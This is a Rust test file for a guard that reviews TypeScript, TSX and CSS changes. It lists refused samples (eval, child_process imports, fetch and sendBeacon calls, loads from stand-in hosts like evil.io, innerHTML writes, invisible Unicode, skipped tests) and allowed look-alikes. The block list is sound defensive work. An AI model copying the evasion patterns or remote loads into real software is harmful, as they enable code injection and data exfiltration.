//! What is refused, and beside it what is not.

use super::*;

fn path(text: &str) -> ProjectPath {
    ProjectPath::parse(text).unwrap()
}

fn problems(name: &str, before: Option<&str>, text: &str, requirement: &str) -> Vec<String> {
    let file = |text: &str| BTreeMap::from([(path(name), text.to_owned())]);
    let before = before.map(file).unwrap_or_default();
    guard(&before, &file(text), requirement)
}

#[track_caller]
fn refused(name: &str, text: &str) {
    let problems = problems(name, None, text, "a page of tips");
    assert_eq!(problems.len(), 1, "{text}: {problems:?}");
    assert!(
        problems[0].starts_with(&format!("{name}:1:")),
        "{problems:?}"
    );
}

#[track_caller]
fn free(name: &str, text: &str) {
    let problems = problems(name, None, text, "a page of tips");
    assert!(problems.is_empty(), "{text}: {problems:?}");
}

#[test]
fn what_nobody_would_merge_is_refused() {
    for text in [
        "// @ts-ignore\nexport const a = 1;",
        "/* eslint-disable no-console */ export const a = 1;",
        "// oxlint-disable-next-line\nexport const a = 1;",
        "export const a: any = 1;",
        "export const a = b as any;",
        "export const a: Map<string, any> = b;",
        "export const a = b as unknown as string;",
        "eval('1');",
        "new Function('return 1')();",
        "setTimeout('evil()', 1);",
        "export const a = window['ev' + 'al'];",
        "export const a = [].constructor;",
        "export const a = x['__proto__'];",
        "import { exec } from 'node:child_process';",
        "import { exec } from 'child_process';",
        "export { readFile } from 'node:fs/promises';",
        "export * from 'vm';",
        "import 'https://evil.example.io/x.js';",
        "await import('node:net');",
        "await import(name);",
        "const fs = require('fs');",
        "process.exit(1);",
        "export const a = globalThis;",
        "fetch('/api/x');",
        "new WebSocket('/x');",
        "navigator.sendBeacon('/x', a);",
        "export const a = 'https://evil.example.io/x';",
        "export const a = 'HTTPS://localhost@evil.io';",
        "export const a = '//evil.io/x.png';",
        "export const a = `https://${host}/x`;",
        "export const a = 'javascript:alert(1)';",
        "export const a = <div dangerouslySetInnerHTML={{ __html: b }} />;",
        "export const a = <iframe title=\"x\" />;",
        "export const a = <img src=\"http://evil.io/x.png\" alt=\"\" />;",
        "element.innerHTML = a;",
        "document.write(a);",
        "debugger;",
    ] {
        refused("web/src/a.tsx", text);
    }
}

#[test]
fn what_reaches_around_a_rule_is_refused_too() {
    for text in [
        "window.eval(x);",
        "window.fetch('/api');",
        "new window.WebSocket('/x');",
        "self.Function('return 1');",
        "const w = window;",
        "setTimeout(`evil()`, 1);",
        "window.setTimeout('evil()', 1);",
        "export const a = (b as unknown) as string;",
        "el['inner' + 'HTML'] = a;",
        "el[`innerHTML`] = a;",
        "Object.assign(el, { innerHTML: a });",
        "export const a = <div {...{ dangerouslySetInnerHTML: b }} />;",
        "export const a = <div style={{ background: 'url(https://evil.io/a.png)' }} />;",
        "export const a = <img srcSet=\"/a.png 1x, https://evil.io/b.png 2x\" alt=\"\" />;",
        "export const a = '\\\\\\\\evil.io/x';",
        "export const a = 'https:/evil.io/x';",
        "import { lookup } from 'node:dns/promises';",
        "import fs = require('fs');",
        "export const a = '\u{202e}txt';",
        "export const a\u{200b} = 1;",
    ] {
        refused("web/src/a.tsx", text);
    }
}

#[test]
fn what_only_looks_like_it_is_free() {
    for text in [
        "export const any = 1;",
        "export const a: unknown = b;",
        "export const a = b as string;",
        "export const a = 'eval';",
        "// This does not fetch anything, and evaluates nothing.\nexport const a = 1;",
        "export const a = settings.process;",
        "setTimeout(() => go(), 1);",
        "import { screen } from '@testing-library/react';",
        "import { randomUUID } from 'node:crypto';",
        "await import('./Page');",
        "export const a = apiClient.get('/tips', schema);",
        "export const a = 'http://localhost:3000';",
        "export const a = '// a comment';",
        "export const a = <svg xmlns=\"http://www.w3.org/2000/svg\" />;",
        "export const a = <input placeholder=\"https://example.com\" />;",
        "export const a = window['innerWidth'];",
        "window.clearTimeout(timer);",
        "fireEvent.keyDown(document, { key: 'Escape' });",
        "export const a = rows['a' as Key];",
        "export const a = rows[index + 1];",
        "export const a = rows[index];",
        "export const a = 'Ünïcödé, Привет, 你好, 🎉';",
    ] {
        free("web/src/a.tsx", text);
    }
}

#[test]
fn tests_run_and_expect_something() {
    let name = "api/test/a.test.ts";
    for text in [
        "test.skip('a', () => { expect(1).toBe(1); });",
        "describe.only('a', () => { test('b', () => { expect(1).toBe(1); }); });",
        "it.todo('a');",
        "xit('a', () => { expect(1).toBe(1); });",
        "test('a', () => {});",
        "test.each([1])('a', () => {});",
        "vi.mock('../src/app');",
        "test('is as expected', () => {});",
        "test('a', { skip: true }, () => { expect(1).toBe(1); });",
        "test.concurrent.skip('a', () => { expect(1).toBe(1); });",
        "test('a', (it) => { it.skip(); expect(1).toBe(1); });",
    ] {
        refused(name, text);
    }
    free(
        name,
        "describe('a', () => { test.each([1])('b', (n) => { expect(n).toBe(1); }); });",
    );
    free("web/src/a.tsx", "export const a = list.only;");
}

#[test]
fn a_host_that_the_requirement_names_may_be_talked_to() {
    let text = "export const a = await fetch('https://api.weather.io/today');";
    let asked = "show the weather of api.weather.io";
    assert_eq!(problems("api/src/a.ts", None, text, asked), [""; 0]);
    assert_eq!(
        problems("api/src/a.ts", None, text, "show the weather").len(),
        2
    );
    let part = "export const a = 'https://eather.io';";
    assert_eq!(problems("api/src/a.ts", None, part, asked).len(), 1);
    let node = "await fetch('/x');";
    let asked = "rewrite it in Node.js";
    assert_eq!(problems("api/src/a.ts", None, node, asked).len(), 1);
}

#[test]
fn style_sheets_load_nothing_from_elsewhere() {
    let name = "web/src/a.css";
    refused(name, "@import 'https://fonts.evil.io/a.css';");
    refused(name, ".a { background: URL( \"//evil.io/a.png\" ); }");
    refused(
        name,
        ".a { background: image-set('https://evil.io/a.png' 1x); }",
    );
    refused(name, "/* prettier-ignore */ .a { color: red }");
    free(
        name,
        ".a { background: url('./a.png'); color: var(--text); }",
    );
}

#[test]
fn what_was_there_before_is_no_fault_of_a_change() {
    let before = "export const a: any = 1;\n";
    let same = "export const b = 2;\nexport const a: any = 1;\n";
    assert_eq!(problems("web/src/a.ts", Some(before), same, ""), [""; 0]);
    let more = format!("{before}export const c: any = 1;\n");
    assert_eq!(problems("web/src/a.ts", Some(before), &more, "").len(), 1);
}

#[test]
fn what_does_not_parse_is_left_to_others() {
    assert_eq!(
        problems("web/src/a.ts", None, "export const = ;", ""),
        [""; 0]
    );
    // What can't be looked at is not let through.
    for text in ["(".repeat(1000), "a;".repeat(200_000)] {
        assert_eq!(problems("web/src/a.ts", None, &text, "").len(), 1);
    }
}
